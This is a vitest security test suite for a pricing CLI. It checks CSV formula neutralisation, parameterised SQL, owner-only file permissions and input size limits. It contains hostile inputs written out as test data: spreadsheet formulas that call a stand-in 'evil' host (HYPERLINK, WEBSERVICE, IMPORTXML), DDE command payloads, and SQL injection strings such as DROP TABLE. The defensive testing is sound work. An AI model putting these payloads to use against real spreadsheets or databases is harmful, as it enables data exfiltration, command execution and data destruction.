import Database from 'better-sqlite3'
import {parse} from 'csv-parse/sync'
import {chmodSync, readdirSync, readFileSync, statSync, truncateSync, writeFileSync} from 'node:fs'
import {join, relative} from 'node:path'
import {beforeAll, describe, expect, it} from 'vitest'

import {csv} from '../../src/cli/render.js'
import {openSqliteStore as openStore} from '../../src/store/db.js'
import {dump} from '../helpers/dump.js'
import {ROOT, run, runBin} from '../helpers/run.js'
import {copyFixtureStore, expectCleanFailure, expectUnchanged, fixtureExpected, PAYMENTS_HEADER, tempDir, write} from './helpers.js'

/**
 * Security (issue 7, item 5): CSV output neutralises formulas, SQL never carries values
 * as text, the store and its backups are owner-only, and input sizes are bounded.
 */

const FORMULA = /^[=+\-@\t\r]/
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/

/** Every cell of a CSV text that a spreadsheet would run as a formula. */
function formulas(text: string): string[] {
  const rows = parse(text, {bom: true, relax_column_count: true, relax_quotes: true}) as string[][]
  return rows.flat().filter((c) => FORMULA.test(c) && !PLAIN_NUMBER.test(c))
}

// ------------------------------------------------------------------ CSV formula injection

describe('CSV output: cells starting with = + - @ tab or CR are neutralised', () => {
  let dir: string
  let db: string
  const HOSTILE = {
    api: '=HYPERLINK("http://evil.example/?q="&A1)',
    audience: '-2+3+cmd|" /C calc"!A0',
    campaign: '=1+1',
    coupon: '@SUM(1+1)*cmd|"/C calc"!A0',
    experiment: '\t=cmd',
    package: '\r=cmd',
    product: '+cmd|" /C calc"!A0',
    source: '=IMPORTXML("http://evil")',
    user: '=WEBSERVICE("http://evil")',
  }

  beforeAll(async () => {
    dir = tempDir('pricectl-csv-')
    db = copyFixtureStore(dir)
    process.env.PRICECTL_NOW = fixtureExpected().now
    const ok = async (args: string[]) => {
      const r = await run(db, args)
      expect(r.code, `${args.join(' ')}: ${r.stdout} ${r.stderr}`).toBe(0)
      return r
    }
    await ok(['products', 'create', '--api-id', HOSTILE.api, '--name', HOSTILE.product, '--base-px', '5', '--interval', 'month', '--interval-count', '1'])
    await ok(['coupons', 'create', '--api-id', 'CSV1', '--name', HOSTILE.coupon, '--type', 'percentage', '--value', '5'])
    await ok(['audiences', 'create', '--api-id', 'csv_aud', '--name', HOSTILE.audience, '--rule', 'country in NO'])
    await ok(['packages', 'create', '--api-id', 'csv_pkg', '--name', 'Package\u00a0x', '--product', HOSTILE.api, '--country', 'NO'])
    await ok(['packages', 'update', 'csv_pkg', '--name', 'Package'])
    await ok(['campaigns', 'create', '--api-id', 'csv_cmp', '--name', HOSTILE.campaign, '--coupon', 'CSV1', '--country', 'NO'])
    await ok(['experiments', 'create', '--name', 'csv experiment', '-p', HOSTILE.api, '--arm', 'x0.9'])
    await ok(['fx', 'set', 'NOK', '10.5', '--date', '2026-03-01', '--source', HOSTILE.source])
    // NO moves by +30%: beyond --max-change-pct, so --yes.
    await ok(['localization', 'set', 'NO', '1.2', '--source', HOSTILE.source, '--yes'])
    await ok(['subscriptions', 'create', '--user-id', HOSTILE.user, '--origin', 'gateway_a', '--origin-id', '=sub', '--product', HOSTILE.api, '--amount', '5', '--currency', 'USD', '--created', '1772323200', '--status', 'active', '--country', 'NO'])
    await ok(['charges', 'create', '--user-id', HOSTILE.user, '--origin', 'gateway_a', '--origin-id', '@ch', '--product', HOSTILE.api, '--amount', '5', '--currency', 'USD', '--created', '1772323200', '--status', 'succeeded', '--metadata', `note=${HOSTILE.source}`])
    delete process.env.PRICECTL_NOW
  })

  const outputs: [string, string[]][] = [
    ['products list', ['products', 'list', '--output', 'csv']],
    ['products export (stdout)', ['products', 'export', '--output', 'csv']],
    ['coupons list', ['coupons', 'list', '--output', 'csv']],
    ['audiences list', ['audiences', 'list', '--output', 'csv']],
    ['packages list', ['packages', 'list', '--output', 'csv']],
    ['campaigns list', ['campaigns', 'list', '--output', 'csv']],
    ['experiments list', ['experiments', 'list', '--output', 'csv']],
    ['experiments results', ['experiments', 'results', '1', '--output', 'csv']],
    ['fx list', ['fx', 'list', '--output', 'csv', '--history', '--currency', 'NOK']],
    ['localization list', ['localization', 'list', '--output', 'csv']],
    ['gateways list', ['gateways', 'list', '--output', 'csv']],
    ['rounding list', ['rounding', 'list', '--output', 'csv']],
    ['rounding test', ['rounding', 'test', 'EUR', '9.37', '--output', 'csv']],
    ['subscriptions list', ['subscriptions', 'list', '--output', 'csv']],
    ['charges list', ['charges', 'list', '--output', 'csv']],
    ['revenue report by product', ['revenue', 'report', '--by', 'product', '--since', '2026-01-01', '--until', '2026-03-31', '--output', 'csv']],
    ['revenue report by country', ['revenue', 'report', '--by', 'country', '--since', '2026-01-01', '--until', '2026-03-31', '--output', 'csv']],
  ]

  for (const [name, args] of outputs) {
    it(`${name} --output csv`, async () => {
      const r = await run(db, args)
      expect(r.code, r.stderr).toBe(0)
      expect(r.stdout.length).toBeGreaterThan(0)
      expect(formulas(r.stdout)).toEqual([])
    })
  }

  it('the hostile values are in those outputs, neutralised with a leading quote', async () => {
    const cells = async (args: string[]) => (parse((await run(db, args)).stdout, {relax_column_count: true}) as string[][]).flat()
    expect(await cells(['products', 'list', '--output', 'csv'])).toEqual(expect.arrayContaining([`'${HOSTILE.api}`, `'${HOSTILE.product}`]))
    expect(await cells(['charges', 'list', '--output', 'csv'])).toContain(`'${HOSTILE.user}`)
    expect(await cells(['subscriptions', 'list', '--output', 'csv'])).toContain(`'${HOSTILE.user}`)
    expect(await cells(['coupons', 'list', '--output', 'csv'])).toContain(`'${HOSTILE.coupon}`)
    expect(await cells(['audiences', 'list', '--output', 'csv'])).toContain(`'${HOSTILE.audience}`)
    expect(await cells(['campaigns', 'list', '--output', 'csv'])).toContain(`'${HOSTILE.campaign}`)
    expect(await cells(['fx', 'list', '--output', 'csv', '--history', '--currency', 'NOK'])).toContain(`'${HOSTILE.source}`)
    expect(await cells(['localization', 'list', '--output', 'csv'])).toContain(`'${HOSTILE.source}`)
    expect(await cells(['revenue', 'report', '--by', 'product', '--since', '2026-01-01', '--until', '2026-03-31', '--output', 'csv'])).toContain(`'${HOSTILE.api}`)
    // Export then import gives the hostile values back exactly (the quote is undone).
    const file = join(dir, 'export.csv')
    expect((await run(db, ['products', 'export', file, '--output', 'csv'])).code).toBe(0)
    expect(formulas(readFileSync(file, 'utf8'))).toEqual([])
    const before = dump(db)
    const again = await run(db, ['products', 'import', file, '--json'])
    expect(again.json).toMatchObject({inserted: 0, updated: 0})
    expect(dump(db)).toEqual(before)
  })

  it('price --input --output csv', async () => {
    const requests = write(dir, 'requests.jsonl', [HOSTILE.user, '+1', '@x', '-x'].map((u) => JSON.stringify({country: 'NO', products: [HOSTILE.api], user_id: u})).join('\n') + '\n{"user_id": "=bad", "products": ["nosuch"]}\n')
    const r = await run(db, ['price', '--input', requests, '--output', 'csv'])
    expect(r.code).toBe(1) // the last line names an unknown product
    expect(r.stdout.split('\n').length).toBeGreaterThan(5)
    expect(formulas(r.stdout)).toEqual([])
  })

  it('tab and CR in front of a formula too (csv() and safeCell)', () => {
    const text = csv([{v: '\t=1+1'}, {v: '\r=1+1'}, {v: '-5'}, {v: '-5x'}, {v: '+1'}, {v: '@a'}, {v: 'plain'}], [{header: 'v', value: (r) => r.v}])
    expect(formulas(text)).toEqual([])
    expect((parse(text, {columns: true}) as {v: string}[]).map((r) => r.v)).toEqual(["'\t=1+1", "'\r=1+1", '-5', "'-5x", "'+1", "'@a", 'plain'])
  })

  it('the rejects CSV of an import', async () => {
    const file = write(dir, 'payments.csv', `${PAYMENTS_HEADER}\n=cmd|' /C calc'!A0,2026-01-05 10:00:00,9.99,0.00,xyz,Paid,@cus,+desc,-user,=prod\n`)
    const r = await run(db, ['charges', 'import', file])
    expect(r.code).toBe(1)
    const rejects = readFileSync(`${file}.rejects.csv`, 'utf8')
    expect(rejects).toContain("'=cmd")
    expect(formulas(rejects)).toEqual([])
  })
})

// ------------------------------------------------------------------ SQL

const HOSTILE_IDS = [
  "x'; DROP TABLE products; --",
  "' OR '1'='1",
  '" OR 1=1 --',
  "1; DELETE FROM charges WHERE '1'='1",
  "'); DELETE FROM locks; --",
  '%',
  '_',
  '\\',
  "Robert'); DROP TABLE users;--",
]

describe('SQL is parameterised: hostile ids change nothing they should not', () => {
  it('every command that takes an id treats it as a value', async () => {
    const db = copyFixtureStore(tempDir('pricectl-sql-'))
    // The fixture is an older schema: migrate first, so only what the hostile ids do is compared.
    expect((await run(db, ['db', 'migrate'])).code).toBe(0)
    const before = dump(db)
    for (const id of HOSTILE_IDS) {
      const reads: string[][] = [
        ['products', 'get', id],
        ['products', 'update', id, '--base-px', '1'],
        ['products', 'delete', id, '--yes'],
        ['products', 'localize', id, '--dry-run'],
        ['coupons', 'get', id],
        ['coupons', 'update', id, '--value', '1'],
        ['coupons', 'delete', id, '--yes'],
        ['audiences', 'get', id],
        ['audiences', 'update', id, '--priority', '1'],
        ['audiences', 'delete', id, '--yes'],
        ['packages', 'get', id],
        ['packages', 'update', id, '--name', 'x'],
        ['packages', 'delete', id, '--yes'],
        ['campaigns', 'get', id],
        ['campaigns', 'delete', id, '--yes'],
        ['experiments', 'show', id],
        ['experiments', 'start', id],
        ['experiments', 'stop', id],
        ['experiments', 'results', id],
        ['user', 'get', id],
        ['subscriptions', 'get', id, 'gateway_a', id],
        ['subscriptions', 'update', id, 'gateway_a', id, '--amount', '1'],
        ['subscriptions', 'delete', id, 'gateway_a', id, '--yes'],
        ['charges', 'get', id, 'gateway_a', id],
        ['charges', 'update', id, 'gateway_a', id, '--amount', '1'],
        ['charges', 'delete', id, 'gateway_a', id, '--yes'],
        ['keys', 'revoke', id, '--yes'],
        ['subscriptions', 'list', '--user-id', id, '--product', id],
        ['charges', 'list', '--user-id', id, '--product', id],
        ['coupons', 'list', '--name', id],
        ['fx', 'list', '--currency', id],
        ['localization', 'list', '--country', id],
        ['price', 'explain', '-u', id, '-p', 'pro_monthly', '--package-id', id],
        ['price', '-u', 'alice', '-p', id],
      ]
      for (const args of reads) {
        const r = await run(db, [...args, '--json'])
        // Not found (1), invalid (2), or an empty list (0): never a store error.
        expect([0, 1, 2], `${args.join(' ')}: ${r.stdout}`).toContain(r.code)
        if (r.code !== 0) expectCleanFailure(r, true, args.join(' '))
        expect(r.stdout, args.join(' ')).not.toMatch(/store error|SQLITE_/)
        if (args[1] === 'list' && r.code === 0) {
          const list = Object.values(r.json).find((v) => Array.isArray(v)) as unknown[]
          // '%' and '_' are not wildcards: whatever is listed holds the text itself.
          for (const item of list) expect(JSON.stringify(item).toLowerCase(), args.join(' ')).toContain(JSON.stringify(id).slice(1, -1).toLowerCase())
        }
      }
    }
    // Updates and deletes of records that do not exist are kept for their creates
    // (docs/revenue.md, "Events in any order"): those are the only writes, logged events of
    // the hostile ids verbatim; every other table is as it was.
    const after = dump(db)
    const keys = new Set(HOSTILE_IDS.map((id) => JSON.stringify([id, 'gateway_a', id])))
    const seen = new Set(before.tables.events.map((r) => JSON.stringify(r)))
    const added = after.tables.events.filter((r) => !seen.has(JSON.stringify(r)))
    expect(added.length).toBeGreaterThan(0)
    for (const r of added) {
      expect(keys.has(r.record_key as string), `event of ${String(r.record_key)}`).toBe(true)
      expect(['update', 'delete']).toContain(r.action)
    }
    expect(after.tables.events.length).toBe(before.tables.events.length + added.length)
    for (const r of after.tables.pending_fields) expect(keys.has(r.record_key as string), `pending ${String(r.record_key)}`).toBe(true)
    expect({...after, tables: {...after.tables, events: before.tables.events, pending_fields: before.tables.pending_fields}}).toEqual(before)
  })

  it('hostile ids are stored and read back verbatim', async () => {
    const db = copyFixtureStore(tempDir('pricectl-sql-'))
    for (const [i, id] of HOSTILE_IDS.entries()) {
      const p = await run(db, ['products', 'create', '--api-id', id, '--name', `Hostile ${i}`, '--base-px', '1', '--interval', 'month', '--interval-count', '1', '--json'])
      expect(p.code, p.stdout).toBe(0)
      expect((await run(db, ['products', 'get', id, '--json'])).json.api_id).toBe(id)
      const c = await run(db, ['charges', 'create', '--user-id', id, '--origin', 'gateway_b', '--origin-id', id, '--product', id, '--amount', '1', '--currency', 'USD', '--created', '1772323200', '--status', 'succeeded', '--json'])
      expect(c.code, c.stdout).toBe(0)
      expect((await run(db, ['charges', 'get', id, 'gateway_b', id, '--json'])).json.charge).toMatchObject({origin_id: id, user_id: id})
      const q = await run(db, ['price', '-u', id, '-p', id, '--country', 'DE', '--json'])
      expect(q.json.user_id).toBe(id)
      expect((await run(db, ['user', 'get', id, '--json'])).json.user.country).toBe('DE')
    }
    const d = new Database(db, {readonly: true})
    const tables = (d.prepare("SELECT name FROM sqlite_master WHERE type = 'table'").all() as {name: string}[]).map((t) => t.name)
    expect(tables).toEqual(expect.arrayContaining(['products', 'charges', 'users', 'locks']))
    expect((d.prepare('SELECT count(*) AS n FROM products').get() as {n: number}).n).toBe(3 + HOSTILE_IDS.length)
    d.close()
    expect((await run(db, ['db', 'check', '--json'])).json).toMatchObject({ok: true})
  })

  it('no SQL text is built from values: every ${...} inside SQL is a vetted constant or placeholder list', () => {
    // Interpolations that are column lists, table names from fixed lists, WHERE clauses
    // made of fixed text, or "?" placeholder lists; values always go through parameters.
    const allowed = new Set([
      'COLUMNS', 'cols', "cols.join(', ')", "cols.map((c) => `@${c}`).join(', ')", "cols.map(() => '?').join(', ')", 'table', 't', 'where', 'w', 'one', 'limit', 'ORDER', 'SELECT', 'base', 'key', 'LIVE',
      'marks', "types.map(() => '?').join(',')", "apiIds.map(() => '?').join(',')", "set.map((c) => `${c} = @${c}`).join(', ')", "set.map((c) => `${c} = ?`).join(', ')", 'm.version', 'timeout', 'cacheSize',
      'JSON.stringify(o.name)', 'order', 'c', 'APPLICATION_ID',
      // src/store/sqlite/fx.ts: the fixed condition "source GLOB 'default snapshot (*'".
      'SNAPSHOT',
      // src/store/sqlite/history.ts (revert): quoted column names of a recorded table, from
      // PRAGMA table_info, as json_extract() of the image parameter, and its ON CONFLICT update.
      'values', 'update',
      // src/store/{sqlite,postgres}/tables.ts (db copy): table, column, constraint and cursor
      // names read from the store's own catalog (sqlite_master, pg_class), double-quoted by
      // quote() (or as a quoted literal for pg_get_serial_sequence), a fetch size, and
      // constraint definitions from pg_get_constraintdef(); rows go through COPY, never SQL.
      'quote(name)', 'quote(t.name)', 'quote(table)', 'quote(column)', 'quote(f.table)', 'quote(f.name)', 'f.def', 'literal(quote(table))', 'literal(column)',
      "key.map(quote).join(', ')", "tables.map((t) => quote(t.name)).join(', ')", 'select', 'cursor',
      // src/store/import-stages.ts: the stage table's fixed name, the kind's fixed column list, a page cache size.
      // (or an importFiles option, checked to be a positive integer by ImportStages).
      'STAGE_TABLE', "columns.join(', ')", 'STAGE_CACHE_KB', 'cacheKb',
      // src/store/schema/history.ts: the recorded tables' fixed names, quoted.
      'RECORDED_SQL_LIST',
    ])
    const vetted = (e: string) =>
      allowed.has(e) ||
      // A list of "?" placeholders, one per value.
      /^[\w.]+\.map\(\(\) => '\?'\)\.join\(', ?'\)$/.test(e) ||
      // A choice between two fixed texts.
      /^[\w.!]+ \? '[^'`$]*' : '[^'`$]*'$/.test(e)
    const found: string[] = []
    const walk = (d: string): string[] => readdirSync(d, {withFileTypes: true}).flatMap((e) => (e.isDirectory() ? walk(join(d, e.name)) : e.name.endsWith('.ts') ? [join(d, e.name)] : []))
    for (const file of [...walk(join(ROOT, 'src')), ...walk(join(ROOT, 'commands'))]) {
      const text = readFileSync(file, 'utf8')
      for (const m of text.matchAll(/\.(prepare|exec|pragma)\(\s*`((?:[^`\\]|\\.|`(?=[^`]*\$\{))*?)`/g)) {
        for (const e of m[2].matchAll(/\$\{((?:[^{}]|\{[^{}]*\})*)\}/g)) {
          if (!vetted(e[1].trim())) found.push(`${relative(ROOT, file)}: \${${e[1]}} in ${m[2].slice(0, 80)}`)
        }
      }
    }
    expect(found).toEqual([])
  })
})

// ------------------------------------------------------------------ permissions

describe('the store and its backups are owner-only', () => {
  /** Run `fn` under umask 000 (this process's: the commands run in-process), then put the umask back. */
  async function underUmask000<T>(fn: () => Promise<T>): Promise<T> {
    const saved = process.umask(0)
    try {
      return await fn()
    } finally {
      process.umask(saved)
    }
  }

  it('a new store: folder 0700, file 0600, WAL and shared-memory files 0600, even under umask 000', async () => {
    const dir = tempDir('pricectl-perm-')
    const db = join(dir, 'nested', 'deeper', 'store.db')
    // db init: the command that makes a store's missing folders (a read command refuses a missing store).
    const r = await underUmask000(() => run(db, ['db', 'init', '--json']))
    expect(r.code, r.stderr).toBe(0)
    expect(statSync(join(dir, 'nested')).mode & 0o777).toBe(0o700)
    expect(statSync(join(dir, 'nested', 'deeper')).mode & 0o777).toBe(0o700)
    expect(statSync(db).mode & 0o777).toBe(0o600)
    // While a connection writes, its -wal and -shm files exist: same mode as the store.
    const store = openStore(db)
    store.db.prepare("INSERT INTO settings (key, value) VALUES ('perm', '1')").run()
    for (const f of [`${db}-wal`, `${db}-shm`]) expect(statSync(f).mode & 0o777, f).toBe(0o600)
    await store.close()
  })

  it('db backup: a new copy and an overwritten one are 0600, even under umask 000', async () => {
    const dir = tempDir('pricectl-perm-')
    const db = copyFixtureStore(dir)
    const copy = join(dir, 'copy.db')
    const made = await underUmask000(() => run(db, ['db', 'backup', copy]))
    expect(made.code, made.stderr).toBe(0)
    expect(statSync(copy).mode & 0o777).toBe(0o600)
    const loose = join(dir, 'loose.db')
    writeFileSync(loose, '')
    chmodSync(loose, 0o644)
    const r = await run(db, ['db', 'backup', loose, '--force', '--json'])
    expect(r.code, r.stderr).toBe(0)
    expect(statSync(loose).mode & 0o777).toBe(0o600)
    // Without --force an existing file is refused, untouched.
    const refused = await run(db, ['db', 'backup', loose])
    expect(refused.code).toBe(2)
    expect(refused.stderr).toMatch(/exists.*--force/)
  })
})

// ------------------------------------------------------------------ sizes

/** A file of `bytes` bytes without writing them (sparse): size checks happen before reading. */
function sparse(dir: string, name: string, bytes: number): string {
  const path = join(dir, name)
  writeFileSync(path, '')
  truncateSync(path, bytes)
  return path
}

describe('input sizes are bounded with a clear error', () => {
  let dir: string
  let db: string
  beforeAll(() => {
    dir = tempDir('pricectl-size-')
    db = copyFixtureStore(dir)
  })

  it('--body over 10 MiB, from a file or from stdin', async () => {
    const before = dump(db)
    const big = sparse(dir, 'big.json', 10 * 1024 * 1024 + 1)
    const r = await run(db, ['products', 'create', '--body', big, '--json'])
    expect(r.code).toBe(2)
    expect(r.json.message).toMatch(/^--body: .*big\.json is 10485761 bytes; the limit is 10485760 bytes/)
    const piped = runBin(db, ['products', 'create', '--body', '-'], {input: ' '.repeat(10 * 1024 * 1024 + 10)})
    expect(piped.code).toBe(2)
    expect(piped.stderr).toMatch(/^Error: --body: stdin is over 10485760 bytes; the limit is 10485760 bytes/)
    expectUnchanged(db, before)
  })

  it('products, fx and localization files over 64 MiB', async () => {
    const before = dump(db)
    const size = 64 * 1024 * 1024 + 1
    for (const args of [
      ['products', 'import', sparse(dir, 'products.json', size)],
      ['fx', 'import', sparse(dir, 'rates.csv', size)],
      ['localization', 'import', sparse(dir, 'ppp.csv', size)],
    ]) {
      const r = await run(db, [...args, '--json'])
      expect(r.code, args.join(' ')).toBe(2)
      expect(r.json.message, args.join(' ')).toMatch(/is 67108865 bytes; the limit is 67108864 bytes/)
    }
    expectUnchanged(db, before)
  })

  it('price --input: a line over 1 MiB is one bad line; a CSV record over 1 MiB stops the file', async () => {
    const huge = JSON.stringify({country: 'DE', features: {blob: 'x'.repeat(1024 * 1024)}, products: ['pro_monthly'], user_id: 'big'})
    const file = write(dir, 'big.jsonl', `${JSON.stringify({country: 'DE', products: ['pro_monthly'], user_id: 'small_1'})}\n${huge}\n${JSON.stringify({country: 'DE', products: ['pro_monthly'], user_id: 'small_2'})}\n`)
    const r = await run(db, ['price', '--input', file])
    expect(r.code).toBe(1)
    const out = r.stdout.trim().split('\n').map((l) => JSON.parse(l))
    expect(out.map((o) => o.user_id ?? o.line)).toEqual(['small_1', 2, 'small_2'])
    expect(out[1].message).toMatch(/longer than 1048576 bytes/)
    const csv = write(dir, 'big.csv', `user_id,products,country\nsmall_3,pro_monthly,DE\n"${'x'.repeat(1024 * 1024 + 10)}",pro_monthly,DE\n`)
    const c = await run(db, ['price', '--input', csv, '--output', 'csv'])
    expect(c.code).toBe(2)
    expect(c.stderr).toMatch(/^Error: --input: .*max_record_size|^Error: --input: .*record/im)
  })

  it('charges import (revenue importer): a record over 1 MiB is rejected as a row, the others land', async () => {
    const rowDb = copyFixtureStore(tempDir('pricectl-size-'))
    const good = (i: number) => `ch_size_${i},2026-01-05 10:00:00,9.99,0.00,usd,Paid,cus_${i},Pro plan,u_${i},prod_pro`
    const file = write(dir, 'huge-record.csv', `${PAYMENTS_HEADER}\n${good(1)}\nch_size_2,2026-01-05 10:00:00,9.99,0.00,usd,Paid,cus_2,"${'x'.repeat(2 * 1024 * 1024)}",u_2,prod_pro\n${good(3)}\n`)
    const r = await run(rowDb, ['charges', 'import', file, '--json'])
    expect(r.code, r.stdout.slice(0, 500)).toBe(1)
    expect(r.json).toMatchObject({inserted: 2, read: 3, rejected: 1})
    const rejects = parse(readFileSync(`${file}.rejects.csv`, 'utf8'), {columns: true}) as {line: string; reason: string}[]
    expect(rejects.map((x) => x.line)).toEqual(['3'])
    expect(rejects[0].reason).toMatch(/1048576|too long|longer than|size/i)
  })

  it('experiments simulate --demand-file over 1 MiB', async () => {
    const r = await run(db, ['experiments', 'simulate', '--arm', 'x0.9', '--demand-file', sparse(dir, 'demand.csv', 2 * 1024 * 1024), '--json'])
    expect(r.code).toBe(2)
    expect(r.json.message).toMatch(/--demand-file: .*the limit is 1048576 bytes/)
  })
})

